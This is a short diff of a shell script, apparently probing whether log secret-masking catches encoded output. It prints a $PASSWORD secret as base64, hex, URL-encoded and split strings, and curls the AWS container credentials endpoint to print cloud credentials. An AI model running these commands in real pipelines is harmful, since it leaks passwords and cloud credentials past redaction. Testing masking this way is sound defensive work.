@@ -25,7 +25,7 @@ printf 'x%s' "$PASSWORD" | base64 -w 20
 printf 'xy%s' "$PASSWORD" | base64 -w 0 | tr '+/' '-_'; echo
 printf '%s' "$PASSWORD" | od -An -v -tx1 | tr -d ' \n'; echo
 printf '%s' "$PASSWORD" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F; echo
-python3 -c 'import json, os, urllib.parse as u; p = os.environ["PASSWORD"]; print(json.dumps({"p": p}), u.quote(p), u.quote(p, safe=""), u.quote_plus(p), repr(p))'
+python3 -c 'import json, os, urllib.parse as u; p = os.environ["PASSWORD"]; print(json.dumps({"p": p}), u.quote(p), u.quote(p, safe=""), u.quote_plus(p), u.quote(p, safe="$&+,;="), u.quote(p, safe="!#$&()*+,/:;=?@"), repr(p))'
 printf '%q\n' "$PASSWORD"
 for c in $(seq 1 3); do printf '%s' "${PASSWORD:0:10}"; sleep 0.05; printf '%s\n' "${PASSWORD:10}"; done
 curl -s -H "Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN" "$AWS_CONTAINER_CREDENTIALS_FULL_URI"; echo
